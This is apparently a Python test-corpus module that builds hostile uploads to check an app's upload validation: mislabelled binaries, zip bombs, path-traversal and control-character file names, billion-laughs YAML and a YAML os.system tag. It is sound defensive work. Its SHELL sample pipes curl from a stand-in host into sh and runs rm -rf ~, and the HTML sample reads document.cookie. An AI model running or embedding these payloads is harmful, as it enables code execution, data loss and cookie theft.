"""Hostile and broken input files, built in memory so the repository holds no binaries.

``evidence_cases()`` are uploads that must be refused with one clear message; ``accepted_names()`` are file
names that must be accepted with a sanitised display name; ``catalog_cases()`` are catalog texts that must be
refused; ``workbooks.py`` beside this file holds the hostile workbooks. Run ``python tests/corpus/make_corpus.py
DIR`` to write every file into DIR, e.g. to try them by hand in the running app.

The zip bombs are honest about their shape: either a few kilobytes that inflate to tens of megabytes of zeros
(a ratio of ~1000:1), or a tiny archive whose central directory declares 4 GB. Nothing here is ever inflated.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><head><script>alert(document.cookie)</script></head><body>SK</body></html>\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + bytes(50)
    + b"This program cannot be run in DOS mode.\r\n$"
    + bytes(64)
)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\nrm -rf ~\n"


@dataclass(frozen=True)
class BadUpload:
    name: str  # the file name as the browser sends it
    content: bytes
    key: str  # the LenteraError key expected
    id_text: str  # a fragment of the Indonesian message


def _office_zip(kind: str, inflated_mb: int) -> bytes:
    """A valid-looking XLSX/DOCX whose one big part is ``inflated_mb`` MB of zeros (compressed ~1000:1)."""
    folder = "xl" if kind == "xlsx" else "word"
    part = "workbook.xml" if kind == "xlsx" else "document.xml"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open(f"{folder}/{part}", "w", force_zip64=False) as handle:
            chunk = bytes(1024 * 1024)
            for _ in range(inflated_mb):
                handle.write(chunk)
    return buffer.getvalue()


def _declared_huge(kind: str) -> bytes:
    """A tiny office zip whose central directory claims its part inflates to ~4 GB."""
    data = bytearray(_office_zip(kind, 0))
    start = 0
    while (found := data.find(b"PK\x01\x02", start)) != -1:
        struct.pack_into("<I", data, found + 24, 0xFFFF_FFF0)  # uncompressed size
        start = found + 4
    return bytes(data)


def evidence_cases() -> list[BadUpload]:
    mismatch = "Isi berkas tidak sesuai dengan ekstensinya"
    bomb = "Berkas arsip ini tidak wajar"
    return [
        BadUpload("surat-keputusan.pdf", HTML, "evidence.type_mismatch", mismatch),
        BadUpload("foto-kegiatan.png", HTML, "evidence.type_mismatch", mismatch),
        BadUpload("laporan.pdf", ELF, "evidence.type_mismatch", mismatch),
        BadUpload("foto.png", ELF, "evidence.type_mismatch", mismatch),
        BadUpload("notulen.pdf", PE, "evidence.type_mismatch", mismatch),
        BadUpload("sk.docx", PE, "evidence.type_mismatch", mismatch),
        BadUpload("rekap.pdf", SHELL, "evidence.type_mismatch", mismatch),
        BadUpload("bagan.png", SHELL, "evidence.type_mismatch", mismatch),
        BadUpload("dokumen.pdf", PDF.replace(b"%%EOF", b""), "evidence.pdf_incomplete", "terpotong"),
        BadUpload("dokumen-setengah.pdf", PDF[: len(PDF) // 2], "evidence.pdf_incomplete", "terpotong"),
        BadUpload("rekap-anggaran.xlsx", _office_zip("xlsx", 40), "evidence.zip_bomb", bomb),
        BadUpload("laporan-akhir.docx", _office_zip("docx", 40), "evidence.zip_bomb", bomb),
        BadUpload("rekap-besar.xlsx", _declared_huge("xlsx"), "evidence.zip_bomb", bomb),
        BadUpload("laporan-besar.docx", _declared_huge("docx"), "evidence.zip_bomb", bomb),
        BadUpload("kosong.pdf", b"", "evidence.empty", "Berkas kosong"),
        BadUpload("program.exe", PE, "evidence.unsupported_type", "Jenis berkas tidak diterima"),
        BadUpload("skrip.sh", SHELL, "evidence.unsupported_type", "Jenis berkas tidak diterima"),
        BadUpload("halaman.html", HTML, "evidence.unsupported_type", "Jenis berkas tidak diterima"),
        BadUpload("tanpa-ekstensi", PDF, "evidence.unsupported_type", "Jenis berkas tidak diterima"),
    ]


def accepted_names() -> list[tuple[str, str]]:
    """(name as sent, display name expected) for a valid PDF: odd names are cleaned, never refused."""
    long_stem = "laporan-" + "sangat-panjang-" * 40  # > 500 characters
    return [
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\system32\\sk.pdf", "sk.pdf"),
        ("/absolute/path/sk-tim.pdf", "sk-tim.pdf"),
        ("laporan\x00\x1b[31m\r\nmerah.pdf", "laporan[31mmerah.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        (long_stem + ".pdf", long_stem[:116] + ".pdf"),
        ("تقرير التقييم.pdf", "تقرير التقييم.pdf"),
        ("评估报告.pdf", "评估报告.pdf"),
        ("ꦥꦿꦠꦶꦭꦥꦤ꧀.pdf", "ꦥꦿꦠꦶꦭꦥꦤ꧀.pdf"),
        ('SK "final" <v2>?.pdf', "SK _final_ _v2__.pdf"),
    ]


BILLION_LAUGHS = """key: bom
name: tawa
framework: MCP
year: 2024
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
nodes: [*h]
"""

VALID_HEAD = """key: uji-buruk
name: Katalog uji
framework: MCP
year: 2026
scale: {min: 0, max: 100}
zones:
- {name: merah, min: 0, max: 50}
- {name: hijau, min: 50, max: 100}
"""


def catalog_cases() -> dict[str, str]:
    """Catalog YAML texts an admin might upload that must be refused whole."""
    return {
        "malformed": VALID_HEAD + "nodes:\n- code: A\n  name: [tidak ditutup\n  weight: 1\n",
        "tabs_and_garbage": "key: x\n\tname: y\n: : :\n",
        "billion_laughs": BILLION_LAUGHS,
        "self_recursive": VALID_HEAD + "nodes: &n\n- code: A\n  name: A\n  children: *n\n",
        "top_level_list": "- key: x\n- name: y\n",
        "scalar": "just a sentence\n",
        "weight_is_text": VALID_HEAD
        + "nodes:\n- code: A\n  name: A\n  weight: banyak\n  rule: {kind: percent}\n",
        "nodes_is_mapping": VALID_HEAD + "nodes: {code: A, name: A}\n",
        "year_is_list": VALID_HEAD.replace("year: 2026", "year: [2026]")
        + "nodes:\n- code: A\n  name: A\n  rule: {kind: percent}\n",
        "python_tag": VALID_HEAD + "nodes: !!python/object/apply:os.system ['true']\n",
        "empty": "",
    }


def main(folder: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # run as a script: tests/ on the path
    from corpus.workbooks import hostile_workbooks

    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate(evidence_cases(), start=1):
        (folder / f"{number:02d}-{case.name}").write_bytes(case.content)
    for name, text in catalog_cases().items():
        (folder / f"catalog-{name}.yaml").write_text(text, encoding="utf-8")
    for workbook in hostile_workbooks("Isian"):
        (folder / f"workbook-{workbook.name}").write_bytes(workbook.content)
    print(f"wrote {len(list(folder.iterdir()))} files to {folder}")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out"))
